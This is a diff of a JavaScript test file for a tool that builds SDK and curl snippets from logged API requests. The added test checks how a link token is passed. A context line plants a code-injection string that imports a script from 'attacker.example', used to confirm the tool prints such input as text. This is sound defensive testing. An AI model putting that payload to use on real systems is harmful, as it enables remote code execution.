@@ -40,6 +40,15 @@ it("builds a shell command that quotes what a shell would read", () => {
   );
 });
 
+it("sends a link step with the link token, which both snippets leave to whoever runs them [CTL-11]", () => {
+  const path = "/v2/link/provider/password/acme_watch/complete_mfa";
+  const request = { path, params: { provider: "acme_watch" }, query: "", body: { mfa_code: "<hidden>" } };
+  const entry = createNewEntry(1, { method: "POST", operation: "link.completeMfa", request });
+  const { sdk, curl } = buildSnippets(entry, "http://127.0.0.1:1");
+  expect(sdk).toBe('await client.link.completeMfa("acme_watch", { mfa_code: "<hidden>" }, { linkToken });');
+  expect(curl).toContain(' -H "x-service-link-token: $SANGUINE_LINK_TOKEN" ');
+});
+
 it("prints what a rejected request chose as text, never as code or as the name of a file", async () => {
   const mock = createMock();
   const planted = '1); await import("https://attacker.example/x.js"); (0';
